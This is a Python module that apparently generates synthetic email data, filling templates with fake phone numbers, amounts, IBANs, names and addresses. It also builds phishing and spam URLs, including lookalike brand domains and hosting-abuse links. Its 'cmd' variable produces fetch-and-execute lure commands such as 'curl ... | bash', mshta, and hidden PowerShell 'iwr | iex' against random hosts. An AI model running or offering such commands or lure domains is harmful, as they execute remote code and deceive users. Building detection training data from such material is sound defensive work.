"""Variable bag, URL/phone/amount generators, routing of a sender to a platform."""
import datetime as dt
import string

from . import transport as T
from .boiler import when_local
from .common import rand_token, rand_hex, slug, strip_accents, TZ, to_utc, from_utc
from .people import (Person, make_person, company, FREEMAIL, COMPANIES, random_name, local_part, NAMES, LANG_TZ,
                     small_business_domain)

LOWER = string.ascii_lowercase
ALNUM = string.ascii_lowercase + string.digits


def wchoice(rng, items):
    """items: dict value->weight or list of (value, weight)."""
    if isinstance(items, dict):
        items = list(items.items())
    tot = sum(w for _, w in items)
    r = rng.random() * tot
    for v, w in items:
        r -= w
        if r <= 0:
            return v
    return items[-1][0]


# ---------------------------------------------------------------------------
PHONE = {
    "en-us": lambda r: "+1 (%d) 555-01%02d" % (r.choice([800, 833, 844, 855, 866, 877, 888]), r.randint(0, 99)),
    "en-local": lambda r: "+1 %d-555-01%02d" % (r.randint(201, 989), r.randint(0, 99)),
    "en-gb": lambda r: "+44 20 7946 0%03d" % r.randint(0, 999),
    "en-au": lambda r: "+61 2 5550 %04d" % r.randint(0, 9999),
    "de": lambda r: "+49 30 %d %d" % (r.randint(100, 999), r.randint(1000, 9999)),
    "fr": lambda r: "01 99 00 %02d %02d" % (r.randint(0, 99), r.randint(0, 99)),
    "es": lambda r: "+34 91 %03d %02d %02d" % (r.randint(100, 999), r.randint(0, 99), r.randint(0, 99)),
    "it": lambda r: "+39 02 %04d %04d" % (r.randint(1000, 9999), r.randint(1000, 9999)),
    "pt": lambda r: "+351 21 %03d %04d" % (r.randint(100, 999), r.randint(1000, 9999)),
    "nl": lambda r: "+31 20 %03d %04d" % (r.randint(100, 999), r.randint(1000, 9999)),
    "pl": lambda r: "+48 22 %03d %02d %02d" % (r.randint(100, 999), r.randint(0, 99), r.randint(0, 99)),
    "cs": lambda r: "+420 2%02d %03d %03d" % (r.randint(10, 99), r.randint(100, 999), r.randint(100, 999)),
    "ru": lambda r: "+7 (495) %03d-%02d-%02d" % (r.randint(100, 999), r.randint(0, 99), r.randint(0, 99)),
    "el": lambda r: "+30 210 %03d %04d" % (r.randint(100, 999), r.randint(1000, 9999)),
    "tr": lambda r: "+90 212 %03d %02d %02d" % (r.randint(100, 999), r.randint(0, 99), r.randint(0, 99)),
    "ar": lambda r: "+971 4 %03d %04d" % (r.randint(100, 999), r.randint(1000, 9999)),
    "he": lambda r: "03-%03d-%04d" % (r.randint(100, 999), r.randint(1000, 9999)),
    "zh": lambda r: "400-%03d-%04d" % (r.randint(100, 999), r.randint(1000, 9999)),
    "ja": lambda r: "0120-%03d-%03d" % (r.randint(100, 999), r.randint(100, 999)),
    "ko": lambda r: "1588-%04d" % r.randint(1000, 9999),
    "hi": lambda r: "+91 80 %04d %04d" % (r.randint(1000, 9999), r.randint(1000, 9999)),
    "th": lambda r: "02-%03d-%04d" % (r.randint(100, 999), r.randint(1000, 9999)),
}


TOLLFREE = {
    "de": lambda r: "0800 %03d %04d" % (r.randint(100, 999), r.randint(1000, 9999)),
    "fr": lambda r: "0 805 %02d %02d %02d" % (r.randint(10, 99), r.randint(10, 99), r.randint(10, 99)),
    "es": lambda r: "900 %03d %03d" % (r.randint(100, 999), r.randint(100, 999)),
    "it": lambda r: "800 %03d %03d" % (r.randint(100, 999), r.randint(100, 999)),
    "pt": lambda r: "800 %03d %03d" % (r.randint(100, 999), r.randint(100, 999)),
    "nl": lambda r: "0800-%04d" % r.randint(1000, 9999), "pl": lambda r: "800 %03d %03d" % (r.randint(100, 999), r.randint(100, 999)),
    "cs": lambda r: "800 %03d %03d" % (r.randint(100, 999), r.randint(100, 999)),
    "ru": lambda r: "8 (800) %03d-%02d-%02d" % (r.randint(100, 999), r.randint(10, 99), r.randint(10, 99)),
    "el": lambda r: "800 11 %05d" % r.randint(10000, 99999), "tr": lambda r: "0850 %03d %02d %02d" % (r.randint(100, 999), r.randint(10, 99), r.randint(10, 99)),
    "ar": lambda r: "800 %04d" % r.randint(1000, 9999), "he": lambda r: "1-800-%03d-%03d" % (r.randint(100, 999), r.randint(100, 999)),
    "zh": lambda r: "400-%03d-%04d" % (r.randint(100, 999), r.randint(1000, 9999)), "ja": lambda r: "0120-%03d-%03d" % (r.randint(100, 999), r.randint(100, 999)),
    "ko": lambda r: "080-%03d-%04d" % (r.randint(100, 999), r.randint(1000, 9999)), "hi": lambda r: "1800-%03d-%04d" % (r.randint(100, 999), r.randint(1000, 9999)),
    "th": lambda r: "1800-%03d-%03d" % (r.randint(100, 999), r.randint(100, 999)),
}


def phone(rng, lang, tollfree=False, tz=None):
    if tollfree and lang in TOLLFREE and rng.random() < 0.8:
        return TOLLFREE[lang](rng)
    if lang == "en":
        if tollfree:
            return PHONE["en-us"](rng)
        if tz in ("Europe/London", "Europe/Dublin"):
            return PHONE["en-gb"](rng)
        if tz == "Australia/Sydney":
            return PHONE["en-au"](rng)
        return PHONE["en-local"](rng)
    return PHONE.get(lang, PHONE["en-local"])(rng)


def mobile(rng, lang):
    return {"en": "+44 7700 900%03d" % rng.randint(0, 999), "es": "+34 6%02d %03d %03d" % (rng.randint(0, 99), rng.randint(0, 999), rng.randint(0, 999)),
            "ru": "+7 9%02d %03d-%02d-%02d" % (rng.randint(0, 99), rng.randint(0, 999), rng.randint(0, 99), rng.randint(0, 99)),
            "hi": "+91 9%04d %05d" % (rng.randint(0, 9999), rng.randint(0, 99999)),
            "ar": "+971 5%d %03d %04d" % (rng.randint(0, 9), rng.randint(0, 999), rng.randint(0, 9999)),
            "zh": "+86 1%02d %04d %04d" % (rng.randint(30, 89), rng.randint(0, 9999), rng.randint(0, 9999)),
            "fr": "+33 6 %02d %02d %02d %02d" % tuple(rng.randint(0, 99) for _ in range(4)),
            }.get(lang, "+1 %d-555-01%02d" % (rng.randint(201, 989), rng.randint(0, 99)))


CUR = {
    "en": lambda a, tz: ("£%s" % f"{a:,.2f}") if tz in ("Europe/London",) else (("A$%s" % f"{a:,.2f}") if tz == "Australia/Sydney" else ("€%s" % f"{a:,.2f}" if tz == "Europe/Dublin" else "$%s" % f"{a:,.2f}")),
    "de": lambda a, tz: f"{a:,.2f}".replace(",", "X").replace(".", ",").replace("X", ".") + " €" if tz != "Europe/Zurich" else "CHF " + f"{a:,.2f}".replace(",", "'"),
    "fr": lambda a, tz: f"{a:,.2f}".replace(",", "\u202f").replace(".", ",") + " €",
    "es": lambda a, tz: (f"{a:,.2f}".replace(",", "X").replace(".", ",").replace("X", ".") + " €") if tz == "Europe/Madrid" else "$" + f"{a:,.0f}".replace(",", "."),
    "it": lambda a, tz: "€ " + f"{a:,.2f}".replace(",", "X").replace(".", ",").replace("X", "."),
    "pt": lambda a, tz: (f"{a:,.2f}".replace(",", " ").replace(".", ",") + " €") if tz == "Europe/Lisbon" else "R$ " + f"{a:,.2f}".replace(",", "X").replace(".", ",").replace("X", "."),
    "nl": lambda a, tz: "€ " + f"{a:,.2f}".replace(",", "X").replace(".", ",").replace("X", "."),
    "pl": lambda a, tz: f"{a:,.2f}".replace(",", " ").replace(".", ",") + " zł",
    "cs": lambda a, tz: f"{a * 25:,.0f}".replace(",", " ") + " Kč",
    "ru": lambda a, tz: f"{a * 90:,.0f}".replace(",", " ") + " ₽",
    "el": lambda a, tz: f"{a:,.2f}".replace(",", "X").replace(".", ",").replace("X", ".") + " €",
    "tr": lambda a, tz: f"{a * 30:,.2f}".replace(",", "X").replace(".", ",").replace("X", ".") + " TL",
    "ar": lambda a, tz: ("AED " if tz == "Asia/Dubai" else "SAR ") + f"{a * 3.7:,.2f}",
    "he": lambda a, tz: "₪" + f"{a * 3.7:,.2f}",
    "zh": lambda a, tz: ("NT$" + f"{a * 31:,.0f}") if tz == "Asia/Taipei" else ("¥" + f"{a * 7:,.2f}"),
    "ja": lambda a, tz: "¥" + f"{a * 150:,.0f}",
    "ko": lambda a, tz: "₩" + f"{a * 1300:,.0f}",
    "hi": lambda a, tz: "₹" + f"{a * 83:,.0f}",
    "th": lambda a, tz: "฿" + f"{a * 35:,.0f}",
}


def money(rng, lang, tz, lo=20, hi=900):
    a = rng.uniform(lo, hi)
    a = round(a, 2) if a < 100 else round(a) + rng.choice([0, 0.5, 0.99, 0])
    return CUR.get(lang, CUR["en"])(a, tz)


# ---------------------------------------------------------------------------
TLDS_BAD = [".top", ".xyz", ".shop", ".click", ".online", ".site", ".live", ".icu", ".cfd", ".sbs", ".info", ".store",
            ".buzz", ".rest", ".lat", ".cyou", ".monster", ".quest"]
TLDS_OK = [".com", ".net", ".co", ".io", ".app", ".org", ".us", ".cc", ".me"]
WORDS = ["secure", "account", "verify", "portal", "support", "notice", "center", "online", "service", "auth",
         "login", "billing", "update", "docs", "files", "share", "cloud", "access", "review", "help", "id", "my"]


def lookalike_brand_domain(rng, token):
    tok = slug(token).replace(".", "-")
    w = rng.choice(WORDS)
    form = rng.choice(["{t}-{w}{tld}", "{w}-{t}{tld}", "{t}{w}{tld}", "{t}-{w}-{n}{tld}", "{t}.{w}{tld}"])
    tld = rng.choice(TLDS_BAD + TLDS_OK)
    d = form.format(t=tok, w=w, n=rng.randint(2, 99), tld=tld)
    return d


def lookalike_of(rng, domain):
    base, _, tld = domain.partition(".")
    ops = []
    if "l" in base:
        ops.append(lambda b, t: (b.replace("l", "1", 1) if rng.random() < .5 else b.replace("l", "i", 1), t))
    if "m" in base:
        ops.append(lambda b, t: (b.replace("m", "rn", 1), t))
    if "-" in base:
        ops.append(lambda b, t: (b.replace("-", "", 1), t))
    else:
        ops.append(lambda b, t: (b + "-" + rng.choice(["group", "inc", "ltd", "hq", "global", "corp"]), t))
    ops.append(lambda b, t: (b, rng.choice(["co", "net", "org", "com.co", "us", "cc"]) if t != "co" else "com"))
    ops.append(lambda b, t: (b[:len(b) // 2] + b[len(b) // 2] + b[len(b) // 2:], t))
    if "o" in base:
        ops.append(lambda b, t: (b.replace("o", "0", 1), t))
    b, t = rng.choice(ops)(base, tld)
    return "%s.%s" % (b, t)


def rnd_path(rng, n=None):
    return rand_token(rng, n or rng.randint(5, 12), ALNUM)


ABUSE_MIN_YEAR = {"r2.dev": 2022, "pages.dev": 2021, "workers.dev": 2019, "web.app": 2018, "ipfs.io": 2021,
                  "notion.site": 2021, "canva.com": 2020, "forms.office.com": 2018, "firebasestorage": 2017,
                  "sway.cloud.microsoft": 2024, "1drv.ms": 2016, "webflow.io": 2017, "scl/fi": 2023, "chat.whatsapp": 2017,
                  "open.kakao": 2016, "t.me": 2016, "qrco.de": 2019, "t.ly": 2018, "rb.gy": 2019, "cutt.ly": 2018}
CURRENT_YEAR = [2026]


def year_ok(url, year):
    for k, y in ABUSE_MIN_YEAR.items():
        if k in url and year < y:
            return False
    return True


def spam_url(rng, kind, email="", brand="", year=None):
    for _ in range(40):
        u = _spam_url(rng, kind, email, brand)
        if year is None or year_ok(u, year):
            return u
    return u


def _spam_url(rng, kind, email="", brand=""):
    import base64
    eb = base64.b64encode(email.encode()).decode().rstrip("=")
    r = rng.random()
    if kind == "shop":
        b = slug(brand).replace(".", "") if brand and all(ord(c) < 128 for c in brand) else rand_token(rng, 6, LOWER)
        return rng.choice([
            "https://www.%s%s%s/" % (b[:10], rng.choice(["-outlet", "sale", "-store", "shop", "-official", "deals"]), rng.choice(TLDS_BAD)),
            "http://%s%s/?p=%d&utm_source=cal" % (rand_token(rng, 7, LOWER), rng.choice(TLDS_BAD), rng.randint(100, 9999)),
            "https://%s.%s%s/%s" % (rand_token(rng, 4, LOWER), b[:8] or "shop", rng.choice([".cn", ".top", ".shop", ".vip"]), rnd_path(rng)),
        ])
    if kind == "short":
        return rng.choice(["https://bit.ly/", "https://t.ly/", "https://tinyurl.com/", "https://qrco.de/", "https://rb.gy/", "https://cutt.ly/"]) + rnd_path(rng, 7)
    if kind == "abuse":
        return rng.choice([
            "https://storage.googleapis.com/%s/index.html#%s" % (rand_token(rng, 14, LOWER + "-"), eb),
            "https://%s.web.app/?e=%s" % (rand_token(rng, 10, LOWER), email),
            "https://%s.pages.dev/%s" % (rand_token(rng, 9, LOWER), rnd_path(rng)),
            "https://pub-%s.r2.dev/doc.html#%s" % (rand_hex(rng, 32), eb),
            "https://ipfs.io/ipfs/bafybei%s?filename=secure.html" % rand_token(rng, 52, "abcdefghijklmnopqrstuvwxyz234567"),
            "https://%s.blob.core.windows.net/$web/index.html" % rand_token(rng, 12, LOWER + string.digits),
            "https://sites.google.com/view/%s/home" % rand_token(rng, 10, LOWER),
            "https://forms.office.com/r/%s" % rand_token(rng, 10),
            "https://docs.google.com/presentation/d/e/2PACX-1v%s/pub" % rand_token(rng, 80, string.ascii_letters + string.digits + "-_"),
            "https://%s.notion.site/%s-%s" % (rand_token(rng, 8, LOWER), rand_token(rng, 8, LOWER), rand_hex(rng, 32)),
            "https://www.canva.com/design/DAF%s/%s/view" % (rand_token(rng, 8), rand_token(rng, 22)),
            "https://%s.workers.dev/?%s" % (rand_token(rng, 10, LOWER), eb),
            "https://%s.webflow.io/" % rand_token(rng, 10, LOWER),
            "https://firebasestorage.googleapis.com/v0/b/%s.appspot.com/o/%s.html?alt=media" % (rand_token(rng, 10, LOWER), rnd_path(rng)),
        ])
    if kind == "share":  # document-share lures; often hosted on real services
        return rng.choice([
            "https://%s-my.sharepoint.com/:b:/g/personal/%s/E%s?e=%s" % (rand_token(rng, 8, LOWER), rand_token(rng, 12, LOWER + "_"), rand_token(rng, 46), rand_token(rng, 6)),
            "https://www.dropbox.com/scl/fi/%s/%s.pdf?rlkey=%s&dl=0" % (rand_token(rng, 25, LOWER + string.digits), rand_token(rng, 8), rand_token(rng, 25, LOWER + string.digits)),
            "https://app.box.com/s/%s" % rand_token(rng, 32, LOWER + string.digits),
            "https://docs.google.com/drawings/d/%s/preview" % rand_token(rng, 44),
            "https://1drv.ms/b/s!%s" % rand_token(rng, 28),
            "https://www.canva.com/design/DAG%s/%s/view" % (rand_token(rng, 8), rand_token(rng, 22)),
            "https://%s.notion.site/Shared-Document-%s" % (rand_token(rng, 9, LOWER), rand_hex(rng, 32)),
            "https://%s.pages.dev/doc/?id=%s" % (rand_token(rng, 9, LOWER), eb),
            "https://%s%s/sharepoint/%s" % (rand_token(rng, 8, LOWER), rng.choice(TLDS_BAD), rnd_path(rng)),
            "https://sway.cloud.microsoft/%s" % rand_token(rng, 16),
            "https://%s.wetransfer.%s/downloads/%s" % (rand_token(rng, 5, LOWER), rng.choice(["link", "files.top", "share.site"]), rand_hex(rng, 20)),
        ])
    if kind == "download":
        return rng.choice([
            "https://%s%s/download/%s" % (rng.choice(["zoom-client-update", "teams-updater", "meet-app-download", "adobe-plugin", "zoomapp-install"]), rng.choice(TLDS_BAD + TLDS_OK), rng.choice(["ZoomInstaller.exe", "TeamsSetup_x64.msi", "ZoomUpdate.pkg", "AdobePlugin.exe", "MeetingClient.dmg", "install.msix"])),
            "https://%s.pages.dev/%s" % (rand_token(rng, 8, LOWER), rng.choice(["update.exe", "setup.msi", "client.zip"])),
            "https://github.com/%s/%s/releases/download/v2.%d/%s" % (rand_token(rng, 8, LOWER), rand_token(rng, 6, LOWER), rng.randint(1, 9), rng.choice(["Setup.exe", "Zoom_Update.zip"])),
        ])
    if kind == "chat":
        return rng.choice(["https://t.me/%s" % rand_token(rng, 9, LOWER + "_"), "https://wa.me/%d" % rng.randint(10 ** 10, 10 ** 11),
                           "https://open.kakao.com/o/%s" % rand_token(rng, 8), "https://chat.whatsapp.com/%s" % rand_token(rng, 22)])
    # phish / generic lookalike
    tok = brand or rng.choice(["account", "secure", "mail"])
    d = lookalike_brand_domain(rng, strip_accents(tok) if all(ord(c) < 0x250 for c in tok) else rand_token(rng, 6, LOWER))
    path = rng.choice(["/login", "/verify", "/auth/signin", "/secure/update", "/portal/", "/account/confirm", "/id/", "/s/" + rnd_path(rng)])
    tail = rng.choice(["", "?email=" + email, "#" + eb, "?id=" + rnd_path(rng, 16), "?token=" + rand_hex(rng, 24)])
    return "https://" + d + path + tail


# ---------------------------------------------------------------------------
def docurl(rng, kind, org_domain="", fname="document"):
    f = slug(strip_accents(fname)).replace(".", "-") or "doc"
    if kind == "sharepoint":
        t = org_domain.split(".")[0].replace("-", "")
        return "https://%s.sharepoint.com/:%s:/s/%s/E%s?e=%s" % (t, rng.choice(["w", "x", "p", "b"]), rng.choice(["Finance", "Projects", "Team", "Sales", "Ops"]), rand_token(rng, 46), rand_token(rng, 6))
    if kind == "gdocs":
        return "https://docs.google.com/%s/d/%s/edit?usp=sharing" % (rng.choice(["document", "spreadsheets", "presentation"]), rand_token(rng, 44, string.ascii_letters + string.digits + "-_"))
    if kind == "dropbox":
        return "https://www.dropbox.com/scl/fi/%s/%s?rlkey=%s&dl=0" % (rand_token(rng, 25, LOWER + string.digits), f, rand_token(rng, 25, LOWER + string.digits))
    if kind == "box":
        return "https://%s.app.box.com/s/%s" % (org_domain.split(".")[0].replace("-", ""), rand_token(rng, 32, LOWER + string.digits))
    if kind == "nextcloud":
        return "https://cloud.%s/s/%s" % (org_domain, rand_token(rng, 15))
    if kind == "confluence":
        return "https://%s.atlassian.net/wiki/spaces/%s/pages/%d/%s" % (org_domain.split(".")[0].replace("-", ""), rand_token(rng, 3, string.ascii_uppercase), rng.randint(10 ** 8, 10 ** 9), f)
    if kind == "notion":
        return "https://www.notion.so/%s/%s-%s" % (org_domain.split(".")[0], f, rand_hex(rng, 32))
    if kind == "miro":
        return "https://miro.com/app/board/%s=/" % rand_token(rng, 11)
    return "https://%s/%s" % (org_domain, f)


def ext_address(rng, lang=None):
    lang = lang or rng.choice(["en", "en", "en", "de", "fr", "es", "it", "nl", "pl", "pt"])
    if lang not in NAMES:
        lang = "en"
    disp, f, l, fr, lr = random_name(rng, lang)
    if rng.random() < 0.6:
        dom = rng.choice(FREEMAIL.get(lang, FREEMAIL["en"]))
        lp = local_part(rng, fr, lr, rng.choice(["fl##", "f.l##", "f_l", "fl", "f.l"]))
    else:
        dom = rng.choice(COMPANIES.get(lang, COMPANIES["en"]))[1] if rng.random() < 0.3 else small_business_domain(rng)[1]
        lp = local_part(rng, fr, lr, rng.choice(["f.l", "finit.l", "fl"]))
    return disp, "%s@%s" % (lp, dom)


# ---------------------------------------------------------------------------
class Bag(dict):
    """Lazily generated template variables for one message."""

    def __init__(self, m):
        super().__init__()
        self.m = m

    def __missing__(self, k):
        v = self.gen(k)
        self[k] = v
        return v

    def gen(self, k):
        m, rng = self.m, self.m.rng
        lang = m.lang
        e0 = m.events[0] if m.events else None
        if k == "first":
            return m.rcpt.first or m.rcpt.name
        if k == "name":
            return m.rcpt.name
        if k == "email":
            return m.rcpt.email
        if k == "company":
            return getattr(m.rcpt, "org", m.rcpt.domain)
        if k == "domain":
            return m.rcpt.domain
        if k == "sender":
            return m.frm.name if m.frm else ""
        if k == "sender_first":
            return (m.frm.first if m.frm else "") or "Alex"
        if k == "sorg":
            return getattr(m, "sorg", "") or (m.frm.domain if m.frm else "")
        if k == "url":
            return "\x00URL\x00"
        if k == "docurl":
            return "\x00DOC\x00"
        if k == "phone":
            return phone(rng, lang, tollfree=m.label == "spam", tz=m.tz)
        if k == "phone_rcpt":
            return phone(rng, lang, tz=m.tz)
        if k == "amount":
            return money(rng, lang, m.tz, 200, 48000) if m.label == "spam" else money(rng, lang, m.tz, 40, 2400)
        if k in ("date", "cancel_date", "deadline"):
            if k == "date" and e0:
                return when_local(lang, e0["start"], e0["end"], True)
            base = from_utc(m.tz, m.arrival).date() + dt.timedelta(days=rng.randint(2, 6))
            return when_local(lang, dt.datetime(base.year, base.month, base.day), None, True)
        if k == "time":
            return "%02d:%02d" % (e0["start"].hour, e0["start"].minute) if e0 else "10:00"
        if k == "ref":
            return rng.choice([rand_token(rng, 2, string.ascii_uppercase) + str(rng.randint(100000, 999999)), str(rng.randint(10 ** 7, 10 ** 9)), "%s-%d" % (rand_token(rng, 3, string.ascii_uppercase), rng.randint(1000, 99999))])
        if k == "invoice":
            return rng.choice(["INV-%d" % rng.randint(10000, 99999), "%d/%d" % (rng.randint(100, 9999), m.arrival.year), "RE%d" % rng.randint(100000, 999999), "%s%07d" % (rand_token(rng, 2, string.ascii_uppercase), rng.randint(0, 10 ** 7))])
        if k == "tracking":
            return rng.choice(["%s%d%s" % (rand_token(rng, 2, string.ascii_uppercase), rng.randint(10 ** 8, 10 ** 9), rng.choice(["US", "DE", "CN", "GB", "NL", "PL"])), "00%d" % rng.randint(10 ** 17, 10 ** 18), "JJD%d" % rng.randint(10 ** 14, 10 ** 15)])
        if k in ("pnr", "conf"):
            return rand_token(rng, 6, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789") if k == "pnr" else str(rng.randint(10 ** 8, 10 ** 10))
        if k == "iban":
            cc = {"de": "DE", "fr": "FR", "es": "ES", "pt": "PT", "nl": "NL", "cs": "CZ", "he": "IL", "en": rng.choice(["GB", "LT", "IE"])}.get(lang, "LT")
            n = {"DE": 18, "FR": 23, "ES": 20, "PT": 21, "NL": 14, "CZ": 20, "IL": 19, "GB": 18, "LT": 16, "IE": 18}[cc]
            digits = "".join(str(rng.randint(0, 9)) for _ in range(n))
            if cc in ("NL", "GB", "IE"):
                digits = rand_token(rng, 4, string.ascii_uppercase) + digits[4:]
            s = "%s%02d%s" % (cc, rng.randint(10, 99), digits)
            return " ".join(s[i:i + 4] for i in range(0, len(s), 4))
        if k == "bic":
            return rand_token(rng, 4, string.ascii_uppercase) + rng.choice(["FR", "DE", "LT", "GB"]) + rand_token(rng, 2, string.ascii_uppercase + string.digits) + rng.choice(["", "XXX"])
        if k == "bank":
            return rng.choice(["Revolut Bank UAB", "Wise Europe SA", "Metro Bank", "Banco Santander", "N26 Bank"])
        if k == "btc":
            return "bc1q" + rand_token(rng, 38, "023456789acdefghjklmnpqrstuvwxyz")
        if k == "wa":
            return mobile(rng, rng.choice(["en", "hi", "ar", "es", "zh", "fr"]) if lang == "en" else lang)
        if k == "tg":
            return "@" + rng.choice(["hr_", "job_", "manager_", "anna_", "support_", "vip_"]) + rand_token(rng, 6, LOWER + string.digits)
        if k == "line":
            return "@" + rand_token(rng, 7, LOWER + string.digits)
        if k == "wechat":
            return rng.choice(["lx", "wx_", "vip"]) + rand_token(rng, 6, LOWER + string.digits)
        if k == "pwd":
            return rng.choice(["sunshine", "Summer2019!", "Liverpool1", "qwerty123", "monkey88", "P@ssw0rd1", "Charlie2015"])
        if k == "city":
            return rng.choice(["your area", "Manchester", "Leeds", "Denver", "Austin", "Toronto"])
        if k in ("lawyer",):
            d = random_name(rng, "en")
            return d[0]
        if k == "lastname":
            return m.rcpt.last or m.rcpt.name.split(" ")[-1]
        if k == "vendor":
            return getattr(m, "sorg", "") or rng.choice(COMPANIES["en"])[0]
        if k == "cmd":
            host = "%s%s" % (rand_token(rng, rng.randint(6, 10), LOWER), rng.choice(TLDS_BAD))
            if getattr(m, "cmd_kind", "win") == "mac":
                return 'curl -fsSL https://%s/check.sh | bash' % host
            return rng.choice(['mshta https://%s/verify' % host,
                               'powershell -w h -nop -c "iwr https://%s/v | iex"' % host,
                               'cmd /c start /min powershell -ep bypass -c "irm %s/c|iex"' % host])
        if k == "mid":
            return "%d %d %d" % (rng.randint(810, 899), rng.randint(1000, 9999), rng.randint(1000, 9999))
        if k == "year":
            return str(m.arrival.year if e0 is None else e0["start"].year)
        if k == "q":
            return str((from_utc(m.tz, m.arrival).month - 1) // 3 + 1)
        if k == "ext":
            return str(rng.randint(2000, 7999))
        if k == "intranet":
            return "https://intranet.%s" % m.rcpt.domain
        if k == "project":
            return rng.choice(["Project Atlas", "Helios rollout", "Warehouse 2.0", "CRM migration", "Website relaunch", "Northstar"])
        if k == "candidate":
            d = random_name(rng, "en")
            return d[0]
        if k == "role":
            return {"en": rng.choice(["Senior Data Analyst", "Backend Engineer", "Finance Manager", "Product Designer", "Account Executive"]),
                    "es": rng.choice(["Analista de datos", "Responsable de compras"]), "zh": rng.choice(["高级数据分析师", "财务经理"]),
                    "pl": rng.choice(["Księgowa", "Specjalista ds. logistyki"]), "tr": rng.choice(["Yazılım Mühendisi", "Satın Alma Uzmanı"]),
                    "he": rng.choice(["מפתח/ת Backend", "מנהל/ת כספים"])}.get(lang, "Analyst")
        if k == "interviewer":
            return random_name(rng, lang if lang in NAMES else "en")[0]
        if k == "title":
            return rng.choice(["Engineering Manager", "Head of Finance", "Team Lead", "Director of Operations"])
        if k == "speaker":
            return random_name(rng, lang if lang in NAMES else "en")[0]
        if k == "kid":
            return rng.choice(["Ella", "Max", "Noah", "Mia", "Leo", "Ruby"])
        if k == "other":
            return m.frm.first if m.frm else "Sam"
        if k == "address":
            return {"en": "%d %s" % (rng.randint(2, 240), rng.choice(["Maple Street", "Church Road", "Oak Avenue", "High Street", "Elm Drive"])),
                    "de": "%s %d" % (rng.choice(["Lindenstraße", "Hauptstraße", "Gartenweg", "Bahnhofstraße"]), rng.randint(1, 120)),
                    "fr": "%d %s" % (rng.randint(1, 90), rng.choice(["rue des Lilas", "avenue Jean Jaurès", "rue de la Paix"])),
                    "es": "Calle %s, %d" % (rng.choice(["Mayor", "del Sol", "Alcalá"]), rng.randint(1, 90)),
                    "pt": "Rua %s, %d" % (rng.choice(["das Flores", "Augusta", "do Carmo"]), rng.randint(1, 200)),
                    "pl": "ul. %s %d" % (rng.choice(["Kwiatowa", "Długa", "Polna"]), rng.randint(1, 90)),
                    "el": "Οδός %s %d" % (rng.choice(["Ερμού", "Πανεπιστημίου", "Αθηνάς"]), rng.randint(1, 90)),
                    "ar": "شارع %s، مبنى %d" % (rng.choice(["الملك فهد", "الشيخ زايد", "الجامعة"]), rng.randint(1, 90)),
                    "hi": "मकान नं. %d, %s" % (rng.randint(1, 300), rng.choice(["शांति नगर", "गांधी मार्ग", "सेक्टर 15"])),
                    "ru": "ул. %s, д. %d" % (rng.choice(["Ленина", "Садовая", "Мира"]), rng.randint(1, 90)),
                    }.get(lang, "%d Main Street" % rng.randint(1, 200))
        if k in ("venue", "hotel", "clinic"):
            pools = {
                "hotel": {"en": ["The Harbour Hotel", "Grandview Suites", "Hotel Aurelia", "Parkside Inn"], "fr": ["Hôtel du Parc", "Hôtel Les Tilleuls"],
                          "th": ["โรงแรมริมน้ำ แกรนด์", "สยามการ์เด้น โฮเทล"], "ja": ["ホテル青葉"], "zh": ["锦江大酒店"], "ko": ["서울 그랜드 호텔"]},
                "venue": {"en": ["The Olive Tree", "Riverside Convention Centre", "The Old Mill", "Bistro 41"], "es": ["Restaurante La Parra", "Casa Lola"],
                          "zh": ["福满楼酒家", "鼎泰酒楼"], "ko": ["한우리 식당", "강남 호프"], "fr": ["Le Petit Zinc"]},
                "clinic": {"en": ["Brookside Dental", "Elm Park Medical Centre", "Harbour Family Practice"], "de": ["Hausarztpraxis am Markt", "Praxis Dr. Albrecht"],
                           "fr": ["Cabinet médical des Tilleuls"], "pt": ["Clínica Dentária Sorriso"], "pl": ["Przychodnia Zdrowie"], "el": ["Οδοντιατρείο Παππά"]},
            }[k]
            return rng.choice(pools.get(lang, pools["en"]))
        if k == "doctor":
            n = random_name(rng, lang if lang in NAMES else "en")
            return {"de": "Dr. med. " + n[0], "fr": "Dr " + n[0], "pt": "Dra. " + n[0], "pl": "lek. " + n[0], "el": "Δρ. " + n[0]}.get(lang, "Dr " + n[2] if lang == "en" else n[0])
        if k == "stylist":
            return random_name(rng, "en")[1]
        if k == "plate":
            return "%s%d %s" % (rand_token(rng, 2, string.ascii_uppercase), rng.randint(10, 99), rand_token(rng, 3, string.ascii_uppercase))
        if k == "party":
            return str(rng.randint(2, 8))
        if k == "nights":
            return str(rng.randint(1, 6))
        if k == "school":
            return rng.choice(["Oakfield Primary", "St. Anne's School", "Colegio San José", "Greenhill Elementary"])
        if k == "seat":
            return "%d%s" % (rng.randint(3, 45), rng.choice("ABCDEF"))
        if k == "coach":
            return str(rng.randint(1, 16))
        if k == "train":
            return {"de": "ICE %d" % rng.randint(500, 1700), "ja": rng.choice(["のぞみ", "ひかり", "はやぶさ"]) + "%d号" % rng.randint(1, 300),
                    "it": "FR %d" % rng.randint(9500, 9700), "fr": "TGV %d" % rng.randint(6000, 9999)}.get(lang, rng.choice(["Avanti", "LNER", "Amtrak"]) + " %d" % rng.randint(100, 999))
        return "{%s}" % k


def fill(text, bag):
    if text is None:
        return None
    return text.format_map(bag)


# ---------------------------------------------------------------------------
def set_tz(m, lang=None):
    lang = lang or m.lang
    rc_tz = None
    # recipient-domain default tz: derive from language of recipient domain
    m.tz = m.rng.choice(LANG_TZ.get(lang, LANG_TZ["en"]))
    if lang == "zh":
        m.tz = "Asia/Taipei" if m.tw else "Asia/Shanghai"
    return m.tz


# ---------------------------------------------------------------------------
# Routing: which platform carries the message, given the client and the sender set-up.
MS_FREE = {"en": ["outlook.com", "hotmail.com"], "de": ["outlook.de", "hotmail.de"], "fr": ["hotmail.fr", "outlook.fr"],
           "es": ["hotmail.es", "outlook.es"], "it": ["hotmail.it", "outlook.it"], "pt": ["outlook.pt", "hotmail.com"],
           "nl": ["hotmail.nl", "outlook.com"], "tr": ["hotmail.com", "outlook.com.tr"], "ar": ["hotmail.com", "outlook.sa"],
           "ja": ["outlook.jp", "hotmail.co.jp"], "hi": ["outlook.com", "hotmail.com"]}
YAHOO_FREE = {"en": ["yahoo.com", "ymail.com", "yahoo.co.uk"], "fr": ["yahoo.fr"], "es": ["yahoo.es"], "ja": ["yahoo.co.jp"],
              "el": ["yahoo.gr"], "hi": ["yahoo.co.in"], "th": ["yahoo.co.th"], "de": ["yahoo.de"], "it": ["yahoo.it"],
              "zh": ["yahoo.com.tw"], "ar": ["yahoo.com"], "pt": ["yahoo.com.br"], "tr": ["yahoo.com"], "ru": ["yahoo.com"]}
APPLE_FREE = ["icloud.com", "icloud.com", "icloud.com", "me.com", "mac.com"]


